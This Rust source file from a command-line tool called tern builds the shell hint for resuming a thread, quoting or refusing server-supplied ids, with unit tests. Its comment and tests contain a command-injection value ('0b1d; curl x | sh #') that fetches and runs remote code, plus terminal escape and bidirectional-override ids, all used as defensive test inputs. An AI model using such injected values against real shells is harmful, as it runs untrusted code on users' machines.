//! `tern resume ID`, as tern tells the person how to come back to a thread. The id comes from
//! the server: it is printed so that pasting the hint into a shell runs `tern resume` and
//! nothing else, or not printed at all.

use crate::text::sanitize::is_invisible_format;

/// The command that reopens `thread_id`: the id bare when it is a plain token (a UUID), else
/// quoted for a POSIX shell (`tern resume '0b1d; curl … | sh #'`). An id holding control or
/// invisible characters is refused with the reason: no quoting keeps those from the terminal,
/// and a cleaned id would name another thread.
pub(crate) fn resume_command(thread_id: &str) -> Result<String, &'static str> {
    if thread_id.is_empty() {
        return Err("the server gave the thread an empty id");
    }
    if thread_id
        .chars()
        .any(|c| c.is_control() || is_invisible_format(c))
    {
        return Err("the server gave the thread an id holding control characters");
    }
    let plain = thread_id
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '@' | '+'));
    if plain {
        return Ok(format!("tern resume {thread_id}"));
    }
    let quoted = shlex::try_quote(thread_id)
        .map_err(|_| "the server gave the thread an id no shell can quote")?;
    Ok(format!("tern resume {quoted}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_ids_stay_bare_and_others_are_quoted_or_refused() {
        assert_eq!(
            resume_command("019a-b2c3_d.4").unwrap(),
            "tern resume 019a-b2c3_d.4"
        );
        assert_eq!(
            resume_command("0b1d; curl x | sh #").unwrap(),
            "tern resume '0b1d; curl x | sh #'"
        );
        assert_eq!(resume_command("it's").unwrap(), r#"tern resume "it's""#);
        assert!(resume_command("a\u{1b}]0;t\u{7}").is_err());
        assert!(resume_command("a\u{202e}b").is_err());
        assert!(resume_command("").is_err());
    }
}
